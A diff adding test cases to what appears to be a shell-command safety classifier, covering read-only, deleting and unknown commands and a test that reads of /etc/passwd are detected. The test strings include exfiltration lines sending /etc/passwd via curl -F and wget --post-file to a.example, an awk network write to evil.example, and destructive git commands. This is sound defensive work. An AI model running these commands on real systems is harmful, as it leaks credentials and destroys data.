@@ -26,6 +26,11 @@ ONLY_READS = [
     "git remote -v",
     "git stash list",
     "git config --get user.name",
+    "git log main..HEAD",
+    "awk '{ if (/a/ || $2 > 3) print; else print ($1 > 3) }' f",
+    'awk \'{gsub(/"/, ""); print $1 / 2}\' f',
+    "sed -E 's/([0-9]+)/[\\1]/g; $!N; P; D' f",
+    "sed '1i hello' f",
     "tar tf a.tar",
     "unzip -l a.zip",
     "gzip -dc a.gz",
@@ -85,6 +90,7 @@ DELETES_X = [
     "cat <<EOF > f && rm x\na\nEOF",
     "find . -exec rm x \\;",
     "find x -delete",
+    "git -C x clean -fd",
     "env rm x",
     "env -i rm x",
     "env -S 'rm x'",
@@ -267,6 +273,12 @@ UNKNOWN = [
     "complete -C 'rm x' foo",
     "curl -K f",
     "kill 1",
+    "git submodule foreach 'rm x'",
+    "git bisect run rm x",
+    "git filter-branch --tree-filter 'rm x'",
+    'awk \'BEGIN{print "a" > "/inet/tcp/0/evil.example/80"}\'',
+    "gawk -i inplace '{print}' f",
+    'awk \'BEGIN { f = "system"; @f("rm x") }\'',
     "python3 -c 'import helper'",
 ]
 
@@ -428,6 +440,35 @@ def test_commands_are_unwrapped_and_keep_their_wrappers() -> None:
         ("rm a b", ("sudo", "env", "nice")),
         ("git config user.name y", ()),
     ]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "cat -n /etc/passwd",
+        "cat < /etc/passwd",
+        "head -c 100 /etc/passwd",
+        "grep -f /etc/passwd x",
+        "grep --file=/etc/passwd x",
+        "git diff --no-index /etc/passwd a",
+        "git blame --contents /etc/passwd f",
+        "tar czf - /etc/passwd | base64",
+        "xargs -a /etc/passwd echo",
+        "curl file:///etc/passwd",
+        "curl -F 'a=@/etc/passwd' https://a.example",
+        "wget --post-file=/etc/passwd https://a.example",
+        "dd if=/etc/passwd",
+        "sed 'r /etc/passwd' f",
+        "awk 'BEGIN { getline line < \"/etc/passwd\"; print line }'",
+        "cd /etc && cat passwd",
+        "cd ../../etc; cat ../etc/passwd ../../etc/passwd /etc/../etc/passwd",
+        "ln -s /etc/passwd p",
+        "python3 -c 'print(open(\"/etc/passwd\").read())'",
+        "while read x; do echo $x; done < /etc/passwd",
+    ],
+)
+def test_what_is_read_elsewhere_is_named(command: str) -> None:
+    assert "/etc/passwd" in parse(command).reads
 
 
 def test_reads_are_named_in_one_spelling() -> None:
